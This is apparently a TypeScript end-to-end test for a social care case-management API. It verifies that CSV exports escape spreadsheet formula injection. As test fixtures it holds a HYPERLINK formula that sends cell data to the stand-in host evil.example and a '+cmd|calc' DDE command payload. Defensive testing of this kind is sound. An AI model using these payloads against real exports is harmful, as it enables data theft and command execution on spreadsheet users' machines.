import { randomUUID } from 'node:crypto';
import { journeyEnvelope, journeyStream } from '@care-journey/journey';
import { apiClient, type ApiClient } from '../support/http-client';
import { registerBody } from '../support/journey-bodies';
import { startTestApp, type TestApp } from '../support/test-app';
import { tokenFor } from '../support/tokens';
import { OUTCOME_DEADLINE_MS } from '../support/poll';

const TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const WORKER = '+cmd|calc!A1';

/** The CSV line of one child, once the read models have caught up with its allocation (bounded wait). */
async function csvLineOf(
  api: ApiClient,
  childId: string,
  role: 'reporting_job' | 'auditor',
): Promise<string> {
  for (const deadline = Date.now() + OUTCOME_DEADLINE_MS; Date.now() < deadline;) {
    const csv = await api.get<string>('/exports/read-models/child-summaries?format=csv', {
      token: tokenFor(role),
    });
    expect(csv.status).toBe(200);
    const line = csv.body.split('\n').find((l) => l.startsWith(`${childId},`));
    if (line?.includes('cmd|calc')) return line;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the read model never showed the allocation');
}

describe('CSV injection: recorded text never reaches a spreadsheet as a formula', () => {
  let t: TestApp;
  let api: ApiClient;
  let childId: string;
  beforeAll(async () => {
    t = await startTestApp();
    api = apiClient(t.baseUrl);
    const registered = await api.post<{ childId: string }>('/children', registerBody({ childRef: 'CSV-1' }), {
      token: tokenFor('social_worker', 'alice'),
    });
    expect(registered.status).toBe(201);
    childId = registered.body.childId;
    // The API takes only configured teams and known social workers (allocation-names.e2e), so the
    // formula names come as an allocation stored before that check: written straight to the stream.
    await t.store.appendToStream(
      journeyStream(childId),
      [
        journeyEnvelope(
          {
            type: 'AllocationChanged',
            data: { childId, effectiveDate: '2023-03-01', team: TEAM, socialWorker: WORKER },
          },
          randomUUID(),
          { now: '2023-03-01T12:00:00Z', recordedBy: 'alice' },
        ),
      ],
      { expectedRevision: 'any' },
    );
  }, 60_000);
  afterAll(() => t.close());

  it.each(['reporting_job', 'auditor'] as const)(
    'GET /exports/read-models/child-summaries?format=csv as %s quotes the team and social worker',
    async (role) => {
      const line = await csvLineOf(api, childId, role);
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(line).toContain(`,'+cmd|calc!A1,`);
      expect(line).not.toMatch(/,"?[=+]/);
    },
  );
});
